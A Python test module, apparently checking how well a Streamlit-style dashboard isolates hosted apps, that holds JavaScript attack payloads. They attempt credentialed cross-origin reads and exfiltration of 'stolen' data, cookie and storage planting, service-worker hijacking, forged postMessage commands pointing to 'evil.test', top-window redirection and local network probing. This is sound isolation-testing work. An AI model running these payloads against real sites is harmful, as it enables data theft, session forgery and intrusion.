"""Attacks that the page of a hostile app carries out in its viewer's browser."""

from collections.abc import Sequence
from typing import Final

ATTACK: Final = """async ([dashboard, api, other, open]) => {
  const reached = [], attempts = [], stolen = '{"description": "stolen"}';
  const attempt = (name, what) => attempts.push((async () => {
    try { if (await what()) reached.push(name); } catch (error) { /* refused, as it should be */ }
  })());
  const within = (seconds, start) => new Promise((yes) => {
    setTimeout(() => yes(false), seconds * 1000);
    start(yes);
  });
  const add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };
  const { port } = new URL(dashboard);
  const targets = [`${dashboard}/`, `${dashboard}/api/tasks`, `${api}/tasks`, other,
                   `${dashboard}/_stcore/health`, `${dashboard}/_stcore/host-config`,
                   `http://127.0.0.1:${port}/api/tasks`, `http://${location.hostname}:${port}/`,
                   `${open}/`];
  for (const target of targets) {
    attempt(`read ${target}`, async () => (await fetch(target, {credentials: "include"})).ok);
    attempt(`send to ${target}`, async () => {
      await fetch(target, {mode: "no-cors", credentials: "include", method: "POST", body: stolen});
      return true;
    });
    for (const [name, given] of [["script", {src: target}], ["img", {src: target}],
                                 ["script", {src: target, type: "module"}],
                                 ["embed", {src: target}], ["video", {src: target}],
                                 ["link", {rel: "stylesheet", href: target}],
                                 ["link", {rel: "prefetch", href: target}]]) {
      attempt(`${name} ${target}`, () => within(2, (yes) => {
        add(name, {...given, onload: () => yes(true), onerror: () => yes(false)});
      }));
    }
    attempt(`frame ${target}`, () => within(2, (yes) => {
      const frame = add("iframe", {src: target, onload: () => {
        try { yes(frame.contentDocument.body.innerText.length > 0); } catch { yes(false); }
      }});
    }));
    attempt(`socket ${target}`, () => within(2, (yes) => {
      const socket = new WebSocket(target.replace("http", "ws").replace(/\\/$/, "/_stcore/stream"));
      socket.onopen = () => yes(true);
      socket.onerror = () => yes(false);
    }));
    attempt(`events ${target}`, () => within(2, (yes) => {
      const source = new EventSource(target, {withCredentials: true});
      source.onopen = () => yes(true);
      source.onerror = () => yes(false);
    }));
    // What these send shows in the list of runs, and at the open server.
    attempt(`beacon ${target}`, () => { navigator.sendBeacon(target, stolen); });
    attempt(`form ${target}`, () => {
      add("iframe", {name: target});
      const form = add("form", {action: target, target, method: "post", enctype: "text/plain"});
      form.append(Object.assign(document.createElement("input"),
                                {name: '{"description": "stolen', value: '"}'}));
      form.submit();
    });
  }
  attempt("the page that has opened this one", async () => Boolean(window.opener));
  attempt("the address of that page", async () => Boolean(document.referrer));
  attempt("its own pass", async () => document.cookie.includes("toggle_app"));
  attempt("a cookie of the parent", async () => {
    document.cookie = "planted=1; Domain=localhost; Path=/";
    return document.cookie.includes("planted");
  });
  attempt("a window of the dashboard", () => within(60, (yes) => {
    const opened = window.open(`${dashboard}/`, "_blank");
    const look = () => {
      if (!opened || opened.closed) { yes(false); return; }
      try { if (opened.document.title) yes(true); } catch { /* of another origin */ }
      setTimeout(look, 50);
    };
    setTimeout(() => yes(Boolean(opened && !opened.closed)), 59000);
    look();
  }));
  await Promise.all(attempts);
  return reached;
}"""
"""Returns what the page has reached of the dashboard, the API, another app and an open server."""

WORKERS: Final = """async (targets) => {
  const answer = (worker, from) => new Promise((yes) => {
    from.onmessage = (event) => yes(event.data);
    worker.postMessage(targets);
  });
  const worker = new Worker("/worker.js");
  const reached = await answer(worker, worker);
  worker.terminate();
  await navigator.serviceWorker.register("/worker.js");
  const { active } = await navigator.serviceWorker.ready;
  return reached.concat(await answer(active, navigator.serviceWorker));
}"""
"""Returns what a worker and a service worker, which begins to serve the host, have reached."""

PLANT: Final = """async () => {
  document.cookie = "toggle_app=forged; Path=/";
  document.cookie = "planted=1; Path=/";
  localStorage.setItem("planted", "1");
  await caches.open("planted");
  await new Promise((yes) => { indexedDB.open("planted").onsuccess = yes; });
}"""
"""Leaves something in every store of the page's host."""

TRACES: Final = """async () => {
  const answer = await fetch("/planted");
  const databases = await indexedDB.databases();
  const found = {
    cookie: document.cookie.includes("planted"), storage: Boolean(localStorage.getItem("planted")),
    cache: await caches.has("planted"), database: databases.some((each) => each.name === "planted"),
    answer: (await answer.text()) === "planted",
  };
  return Object.keys(found).filter((each) => found[each]);
}"""
"""Returns which stores of a page's host have something of :data:`PLANT`."""

PLANTED: Final = ["cookie", "storage", "cache", "database", "answer"]
"""What :data:`TRACES` returns on the host itself, after :data:`WORKERS` and :data:`PLANT`."""

COMMAND: Final = """async () => {
  for (const type of ["RERUN_SCRIPT", "STOP_SCRIPT", "CLEAR_CACHE", "UPDATE_HASH", "SET_AUTH_TOKEN",
                      "UPDATE_FROM_QUERY_PARAMS", "SET_PAGE_LINK_BASE_URL"]) {
    parent.postMessage({stCommVersion: 1, type, hash: "#stolen", queryParams: "stolen=1",
                        authToken: "stolen", pageLinkBaseUrl: "http://evil.test"}, "*");
  }
  const reached = [];
  for (const property of ["document", "localStorage", "name", "origin"]) {
    try { parent[property]; reached.push(property); } catch { /* refused, as it should be */ }
  }
  return reached;
}"""
"""Sends the page around a frame the messages that Streamlit obeys, from some pages, and returns
what the frame has read of that page."""

LEAD_AWAY: Final = "(address) => { top.location.href = address }"

REACH: Final = "(asked) => fetch('/reach?' + JSON.stringify(asked)).then((a) => a.json())"


def addresses(*ports: int) -> Sequence[Sequence[str | int]]:
    """What :data:`REACH` lets the program itself try: ports of this machine, and other machines."""
    return [*(["127.0.0.1", port] for port in ports), ["1.1.1.1", 53], ["10.0.0.1", 80]]
